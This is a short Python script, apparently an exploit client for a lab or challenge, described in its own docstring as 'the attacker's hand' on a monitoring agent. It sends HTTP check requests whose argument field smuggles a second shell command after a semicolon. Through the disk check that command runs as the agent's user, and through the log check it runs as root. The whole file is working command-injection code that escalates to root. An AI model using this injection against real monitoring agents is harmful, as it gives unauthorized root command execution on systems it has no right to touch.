"""The attacker's hand on the monitoring agent: one check whose argument carries a command of the attacker's.

hand.py COMMAND             as the agent's own user, after the disk check
hand.py --root COMMAND      as root, after the log check, which the agent runs as root
hand.py --check NAME USER ARGUMENT      an ordinary check with an argument of the attacker's
"""

import sys
import urllib.error
import urllib.request
from urllib.parse import urlencode


AGENT = "agent:5666"


def check(name, argument, user):
    query = urlencode({"name": name, "arg": argument, "as": user})
    try:
        with urllib.request.urlopen(f"http://{AGENT}/check?{query}", timeout=40) as answer:
            print(answer.read().decode(errors="replace"))
    except urllib.error.HTTPError as error:
        sys.exit(f"{error.code} {error.read().decode(errors='replace')}")


match sys.argv[1:]:
    case ["--check", name, user, argument]:
        check(name, argument, user)
    case ["--root", command]:
        check("log", "-n 20; " + command, "root")
    case [command]:
        check("disk", "-w 80; " + command, "agent")
    case _:
        sys.exit(__doc__)
